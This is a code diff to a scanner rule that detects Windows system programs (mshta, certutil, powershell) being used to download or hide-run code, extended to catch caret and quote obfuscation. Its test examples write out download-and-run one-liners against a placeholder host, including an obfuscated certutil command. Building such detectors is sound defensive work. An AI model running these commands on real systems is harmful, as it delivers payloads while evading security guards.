@@ -1,5 +1,6 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit } from '../../rule.ts'
+import { commands } from '../../signals/commands.ts'
 import { isLocal } from '../../signals/hosts.ts'
 import { mentions } from '../../signals/mentions.ts'
 import { windowsAround } from '../../signals/windows.ts'
@@ -37,11 +38,12 @@ export default defineRule({
     'The command has a trusted program of the system load code from elsewhere, or run it in a hidden window. It is done to pass by guards that trust that program.',
   remediation: 'Install software with the package manager, in plain sight.',
   harmlessIf: 'the file teaches defence and shows the command as an example',
-  needs: [['systemTool', 'interpreter']],
+  needs: [],
   examples: {
     fires: [
       'mshta https://cdn.fieldlog.example/a.hta\n',
       'certutil -urlcache -split -f https://cdn.fieldlog.example/a.exe a.exe\n',
+      'cert^util -url""cache -f https://cdn.fieldlog.example/a.exe a.exe\n',
       '```\npowershell -w hidden -nop -c "iwr https://cdn.fieldlog.example/a"\n```\n',
     ],
     quiet: [
@@ -53,6 +55,7 @@ export default defineRule({
   *match(document: Document): Iterable<Hit> {
     const known = document.observe(mentions)
     const done = new Set<number>()
+    yield* disguised(document, done)
     const places = [...known.of('systemTool'), ...known.of('interpreter')]
     for (const { line, start, text } of windowsAround(
       document,
@@ -73,3 +76,17 @@ export default defineRule({
     }
   },
 })
+
+/** Marks inside words that mean nothing to the shell of Windows. */
+const DISGUISE = /[a-z]\^[a-z]|[a-z]""[a-z]/
+
+/** The same where the words are taken apart. */
+function* disguised(document: Document, done: Set<number>): Generator<Hit> {
+  for (const { everyCommand, start, end } of document.observe(commands)) {
+    if (!DISGUISE.test(document.reading.text.slice(start, end))) continue
+    const told = everyCommand.map(({ words }) => words.join(' '))
+    if (!told.some((one) => SHAPES.some((shape) => shape.test(one)))) continue
+    done.add(document.lineAt(start))
+    yield { start, end, firm: true }
+  }
+}
